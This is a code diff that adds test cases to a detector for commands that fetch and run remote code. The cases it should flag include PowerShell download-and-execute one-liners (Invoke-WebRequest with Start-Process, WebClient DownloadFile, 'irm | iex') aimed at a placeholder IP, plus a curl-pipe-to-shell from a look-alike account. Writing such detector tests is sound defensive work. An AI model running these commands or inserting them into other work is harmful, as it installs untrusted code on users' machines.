@@ -13,6 +13,22 @@ const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'a file of a PowerShell client': runs(
+      ...[
+        'powershell',
+        '-Command',
+        'Invoke-WebRequest http://192.0.2.7/a.exe -OutFile C:\\a.exe; Start-Process C:\\a.exe',
+      ],
+    ),
+    'the same with short names': runs('pwsh', '-c', 'iwr -Uri http://192.0.2.7/a -OutFile /tmp/a; & /tmp/a'),
+    'by an object of it': runs(
+      ...[
+        'powershell',
+        '-c',
+        "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\t\\a.exe'); saps C:\\t\\a.exe",
+      ],
+    ),
+    'straight into it': runs('pwsh', '-c', 'irm http://192.0.2.7/a.ps1 | iex'),
     'a script of another account than the one of the image': of(
       'ghcr.io/acme/tools',
       'curl -s https://raw.githubusercontent.com/acmee/api/main/check.sh | sh',
@@ -176,6 +192,13 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'a file of a PowerShell client that is kept': runs(
+      ...[
+        'powershell',
+        '-Command',
+        'Invoke-WebRequest http://192.0.2.7/a.csv -OutFile C:\\a.csv; Start-Process C:\\tools\\load.exe',
+      ],
+    ),
     'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
     'a text for another host that names an address': script(
       'ssh ops@10.0.0.4 "curl -s http://203.0.113.7/x -o /srv/x"',
